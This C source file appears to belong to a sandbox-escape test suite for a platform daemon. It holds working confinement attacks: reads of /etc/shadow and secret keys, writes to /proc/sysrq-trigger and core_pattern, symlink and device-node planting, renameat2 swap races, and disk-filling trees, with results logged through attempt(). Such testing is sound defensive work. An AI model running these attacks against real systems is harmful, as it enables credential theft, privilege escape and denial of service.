/* SPDX-License-Identifier: GPL-3.0-or-later */

/* Files: reading and writing what is not ours, and planting what the daemon may stumble over. */
#include "config.h"

#include "attacks.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <unistd.h>

#define LEVELS 150		/* of a deep tree; with these names it is longer than PATH_MAX */
#define CROWD 400		/* files in one directory */

struct place {
	const char *root;	/* a variable; "" for none */
	const char *below;
};

static void
put_path(char out[4096], const struct place *place)
{
	snprintf(out, 4096, "%s%s", given(place->root), place->below);
}

/* In the state's place may lie an empty directory of our own /tmp, which nobody else sees. */
static bool
is_our_tmp(const char *path)
{
	static const char *const own[] = {"/tmp", "/var/tmp", "/dev/shm"};
	struct stat st, tmp;

	for (size_t i = 0; i < sizeof(own) / sizeof(own[0]); i++)
		if (lstat(path, &st) == 0 && stat(own[i], &tmp) == 0 && st.st_dev == tmp.st_dev)
			return true;
	return false;
}

/* --- reading --- */

static void
try_read(const char *path)
{
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	char byte;
	bool won = fd >= 0 && (read(fd, &byte, 1) == 1 || errno == EISDIR) && !is_our_tmp(path);

	attempt("read", won, "%s: %s", path, won ? "open to us" : strerror(errno));
	if (fd >= 0)
		close(fd);
}

/* What a program needs to find names, hosts and certificates, and nothing else. */
static bool
is_usual(const char *name)
{
	static const char *const usual[] = {
		"passwd", "group", "hosts", "hostname", "resolv.conf", "nsswitch.conf", "host.conf",
		"gai.conf", "services", "protocols", "localtime", "timezone", "ld.so.cache",
		"ld.so.conf", "ld.so.conf.d", "ssl", "ca-certificates", "ca-certificates.conf",
		"pki", "alternatives", "os-release", "debian_version", "mime.types", "locale.alias",
		"terminfo", "inputrc", "magic", "magic.mime", "rpc", "networks", "ethertypes",
		"machine-id", "crypto-policies", "fonts", "xattr.conf", "locale.conf",
		"app",			/* what we have declared ourselves */
	};

	for (size_t i = 0; i < sizeof(usual) / sizeof(usual[0]); i++)
		if (strcmp(usual[i], name) == 0)
			return true;
	return name[0] == '.';
}

static void
try_etc(void)
{
	DIR *dir = opendir("/etc");
	struct dirent *entry;
	char found[200] = "";

	while (dir && (entry = readdir(dir)))
		if (!is_usual(entry->d_name) && strlen(found) + strlen(entry->d_name) < 190)
			strcat(strcat(found, " "), entry->d_name);
	if (dir)
		closedir(dir);
	attempt("read", found[0] != '\0', "/etc has%s", found[0] ? found : " nothing else");
	try_read("/etc/ssl/private");
}

void
attack_reading(void)
{
	static const struct place places[] = {
		{"", "/etc/shadow"}, {"", "/etc/sudoers"}, {"", "/etc/shadow-"},
		{"TOKEN", ""}, {"STATE", "/platform.db"}, {"STATE", "/platform.db-wal"},
		{"STATE", "/secret.key"}, {"STATE", "/sockets.secret"}, {"STATE", "/api.secret"}, {"API", ".secret"},
		{"STATE", "/spaces/processes.json"}, {"STATE", ""},
		{"VICTIM", ""}, {"VICTIM", "/resources"}, {"VICTIM", "/modules/victim/output.log"},
		{"OWN", "/../victim/modules/victim/output.log"}, {"", "/root"}, {"", "/home"},
		{"", "/var/lib"}, {"", "/run"}, {"", "/sys/kernel"}, {"", "/boot"},
		{"", "/proc/1/root/etc/shadow"}, {"", "/proc/1/cwd/etc/shadow"},
		{"", "/proc/self/root/../../etc/shadow"}, {"", "/dev/mem"}, {"", "/dev/kmsg"},
		{"", "/dev/sda"}, {"", "/dev/vda"}, {"", "/proc/kcore"}, {"", "/proc/kmsg"},
		{"VICTIM_DB", ""},
	};
	char path[4096];

	for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++) {
		put_path(path, &places[i]);
		if (*path)
			try_read(path);
	}
	try_etc();
}

/* --- writing --- */

static void
try_write(const char *path)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC | O_NONBLOCK, 0600);

	attempt("write", fd >= 0 && !is_our_tmp(path), "%s: %s", path,
		fd >= 0 ? "made" : strerror(errno));
	if (fd >= 0)
		close(fd);
}

static void
try_away(const char *path)
{
	char other[4200];
	bool moved;

	snprintf(other, sizeof(other), "%s.taken", path);
	if (is_our_tmp(path)) {
		attempt("move", false, "%s is our own", path);
		return;
	}
	moved = rename(path, other) == 0;
	attempt("move", moved, "%s: %s", path, moved ? "moved" : strerror(errno));
	if (moved)
		(void)!rename(other, path);
	if (unlink(path) == 0)
		attempt("remove", true, "%s", path);
}

void
attack_writing(void)
{
	static const struct place made[] = {
		{"STATE", "/written"}, {"STATE", "/spaces/written"}, {"VICTIM", "/written"},
		{"VICTIM", "/resources/written"}, {"OWN", "/written"}, {"OWN", "/modules/written"},
		{"OWN", "/modules/evil/output.log"}, {"OWN", "/modules/evil/output.log.1"},
		{"OWN", "/ports/written"}, {"OWN", "/files/written"}, {"OWN", "/../written"},
		{"IMAGES", "/written"}, {"IMAGES", "/local/evil/1.0.0"},
		{"", "/written"}, {"", "/etc/written"}, {"", "/usr/written"}, {"", "/proc/written"},
		{"", "/dev/written"}, {"", "files/written"}, {"", "files/etc/app/settings.conf"},
		{"", "/etc/app/settings.conf"}, {"", "/etc/app/written"}, {"", "/proc/sys/kernel/hostname"}, {"", "/proc/sysrq-trigger"},
		{"", "/proc/sys/kernel/core_pattern"},
	};
	static const struct place moved[] = {
		{"OWN", ""}, {"OWN", "/modules"}, {"OWN", "/modules/evil"}, {"OWN", "/resources"},
		{"OWN", "/ports"}, {"OWN", "/files"}, {"VICTIM", ""}, {"", "files"},
		{"", "files/etc"}, {"", "files/etc/app/settings.conf"}, {"", "/etc/app"},
		{"", "/etc/app/settings.conf"}, {"STATE", "/spaces"},
	};
	char path[4096];

	for (size_t i = 0; i < sizeof(made) / sizeof(made[0]); i++) {
		put_path(path, &made[i]);
		if (!*made[i].root || *given(made[i].root))
			try_write(path);
	}
	for (size_t i = 0; i < sizeof(moved) / sizeof(moved[0]); i++) {
		put_path(path, &moved[i]);
		if (!*moved[i].root || *given(moved[i].root))
			try_away(path);
	}
}

/* --- planting: it is in our directories, and lies in the daemon's way --- */

static const char *
place_of_database(void)
{
	static char directory[4096];
	char *slash;

	snprintf(directory, sizeof(directory), "%s", given("DB"));
	slash = strrchr(directory, '/');
	if (slash)
		*slash = '\0';
	return directory;
}

static void
plant_socket(const char *path)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (strlen(path) < sizeof(address.sun_path)) {
		strcpy(address.sun_path, path);
		(void)!bind(fd, (struct sockaddr *)&address, sizeof(address));
	}
	close(fd);
}

/* A device would be a win, if it can be opened. */
static void
plant_device(const char *path, mode_t kind, unsigned major_number, unsigned minor_number)
{
	int made = mknod(path, kind | 0666, makedev(major_number, minor_number));
	int fd = made == 0 ? open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC) : -1;

	attempt("device", fd >= 0, "%s: %s", path, fd >= 0 ? "opened" : strerror(errno));
	if (fd >= 0)
		close(fd);
}

static void
plant(const char *directory, const char *name, unsigned kind)
{
	char path[4300];
	int fd;

	if (!*directory)
		return;
	snprintf(path, sizeof(path), "%s/%s", directory, name);
	(void)!unlink(path);
	(void)!rmdir(path);
	switch (kind % 7) {
	case 0:
		(void)!symlink(given("VICTIM_DB"), path);
		break;
	case 1:
		(void)!mkfifo(path, 0600);
		break;
	case 2:
		plant_socket(path);
		break;
	case 3:
		(void)!mkdir(path, 0);
		break;
	case 4:
		(void)!symlink(path, path);
		break;
	case 5:
		fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
		(void)!ftruncate(fd, (off_t)1 << 40);
		close(fd);
		break;
	case 6:
		(void)!symlink(given("VICTIM"), path);
		break;
	}
	attempt("plant", false, "%s %u", path, kind % 7);
}

void
attack_planting(void)
{
	static const char *const names[] = {
		"output.log", "output.log.1", "written.dns", "written.files", "written.sqlite",
		"written.sqlite.new", "written.sqlite-wal", "modules", "files", "resources", "1", "2",
		"deep", "processes.json", "processes.json.new",
	};
	const char *directories[] = {place_of_database(), given("OWN_DATA"), ".", "/tmp", given("OWN")};
	static unsigned kind;
	char image[4096];

	kind = (unsigned)getpid();
	for (size_t d = 0; d < sizeof(directories) / sizeof(directories[0]); d++)
		for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
			plant(directories[d], names[i], kind++);
	/* The database itself, and what is put beside it. */
	if (*given("DB")) {
		const char *name = strrchr(given("DB"), '/') + 1;
		char beside[300];

		plant(place_of_database(), name, kind++);
		snprintf(beside, sizeof(beside), "%s-journal", name);
		plant(place_of_database(), beside, kind++);
		snprintf(beside, sizeof(beside), "%s.new", name);
		plant(place_of_database(), beside, kind++);
	}
	plant_device("disk", S_IFBLK, 254, 0);
	plant_device("memory", S_IFCHR, 1, 1);
	plant_device("/tmp/disk", S_IFBLK, 8, 0);
	snprintf(image, sizeof(image), "%s/local/evil/1.0.0", given("IMAGES"));
	attempt("hard-link", link(image, "image") == 0, "%s: %s", image, strerror(errno));
	attempt("hard-link", link(given("VICTIM_DB"), "victim") == 0, "%s", strerror(errno));
}

static const char *
own_place(void)
{
	return access(given("OWN_DATA"), W_OK) == 0 ? given("OWN_DATA") : place_of_database();
}

/* --- renames under the daemon's feet --- */

/* A directory and a link to the victim change places all the time, in another process. */
void
attack_renaming(void)
{
	const char *where = own_place();
	unsigned count = 0;

	if (chdir(where) != 0)
		return;
	(void)!mkdir("swing", 0700);
	(void)!mkdir("swing/inner", 0700);
	(void)!symlink(given("VICTIM"), "swong");
	for (; count < 3000; count++)
		if (syscall(SYS_renameat2, AT_FDCWD, "swing", AT_FDCWD, "swong", 2 /* EXCHANGE */) != 0)
			break;
	attempt("rename", false, "%u times: %s", count, strerror(errno));
}

/* --- trees that are deeper, larger and more closed than a remover likes --- */

void
attack_depth(void)
{
	const char *where = own_place();
	char name[201];
	int depth = 0;

	memset(name, 'd', 200);
	name[200] = '\0';
	if (chdir(where) != 0)
		return;
	for (; depth < LEVELS; depth++) {
		if ((mkdir(name, 0700) != 0 && errno != EEXIST) || chdir(name) != 0)
			break;
		(void)!symlink("/", "root");
	}
	attempt("depth", false, "%d levels: %s", depth, depth < LEVELS ? strerror(errno) : "done");
	if (chdir(where) != 0 || (mkdir("crowd", 0700) != 0 && errno != EEXIST) ||
	    chdir("crowd") != 0)
		return;
	for (int i = 0; i < CROWD; i++) {
		int fd;

		snprintf(name, sizeof(name), "%d", i);
		fd = open(name, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
		if (fd >= 0)
			close(fd);
	}
	(void)!mkdir("closed", 0700);
	(void)!mkdir("closed/inner", 0700);
	(void)!chmod("closed", 0);
	attempt("depth", false, "%d files and a closed directory", CROWD);
}
